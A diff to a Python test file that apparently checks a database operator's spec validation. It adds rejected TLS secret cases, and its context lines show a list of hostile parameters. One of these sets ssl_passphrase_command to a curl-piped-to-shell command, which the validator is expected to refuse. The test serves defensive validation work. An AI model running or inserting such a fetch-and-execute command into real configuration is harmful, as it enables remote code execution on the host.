@@ -378,6 +378,27 @@ def _parameter_case(case: str, name: str, value: str, fragment: str) -> Case:
 
 # Hostile parameters, huge numbers and strange encodings (issue #13): each must be refused with a
 # message naming the field and saying what is allowed.
+INVALID += [
+    (
+        "tls secret without name",
+        {"spec": {"tls": {"serverCertificateSecret": {}}}},
+        "spec.tls.serverCertificateSecret.name",
+        "",
+    ),
+    (
+        "tls secret bad name",
+        {"spec": {"tls": {"serverCertificateSecret": {"name": "Bad_Name"}}}},
+        "spec.tls.serverCertificateSecret.name",
+        "does not match",
+    ),
+    (
+        "tls unknown field",
+        {"spec": {"tls": {"serverCASecret": {"name": "ca"}}}},
+        "spec.tls.serverCASecret",
+        "allowed: serverCertificateSecret",
+    ),
+]
+
 HOSTILE: list[Case] = [
     _parameter_case(
         "passphrase command", "ssl_passphrase_command", "sh -c 'curl x|sh'", "runs a shell"
